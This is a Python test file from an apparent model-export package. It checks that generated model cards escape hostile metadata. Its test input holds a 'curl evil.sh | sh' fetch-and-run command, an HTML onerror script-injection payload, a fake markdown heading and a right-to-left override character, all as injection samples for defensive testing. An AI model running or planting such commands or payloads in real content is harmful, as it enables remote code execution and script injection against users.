"""The model card takes texts of files as texts."""

import re
from pathlib import Path

import pytest

from esc_sr.export.check import Case, Check
from esc_sr.export.model_card import model_card

CHECK = Check((Case((1, 4, 4), 1e-6),), tolerance=1e-4)
HOSTILE = (
    'MIT |\n\n## Use\n\n```sh\ncurl evil.sh | sh\n```\n<img src=x onerror=alert(1)> `a` "\u202e'
)


@pytest.mark.parametrize("format", ["onnx", "torch_export", "safetensors", "pth"])
def test_no_text_of_a_file_is_markup(format):
    """A licence could give a card a second "Use", and HTML."""
    metadata = {"scale": "2", "lq_size": "any", "title": "ESC", "precision": "fp32"}
    metadata |= {"esc_sr_version": "1"}
    plain = {"license": "MIT", "source": "a.pth", "config": '{"a": "b"}'}
    hostile = dict.fromkeys(["license", "source", "title", "precision", "esc_sr_version"], HOSTILE)
    hostile["config"] = '{"a": "\\n```\\n<img>"}'
    cards = [
        model_card(Path(name), format, metadata | texts, CHECK, settings="fp32")
        for name, texts in [("a", plain), (HOSTILE.replace("/", ""), hostile)]
    ]
    lines = [card.split("\n")[7:] for card in cards]  # behind the name
    kept = [[line for line in of if line.startswith(("#", "`", "-"))] for of in lines]
    assert kept[0] == kept[1]
    assert cards[0].count("\n") == cards[1].count("\n")
    (code,) = (part.partition("\n```")[0] for part in cards[1].split("```python\n")[1:])
    compile(code, "card", "exec")
    page = [line for line in lines[1] if line.startswith(("| licence", "| made by", "MIT"))]
    assert len(page) == 3
    assert not any(re.search(r"(?<!\\)[<`](?!torch|,)", line) for line in page)
    assert "\u202e" not in cards[1]
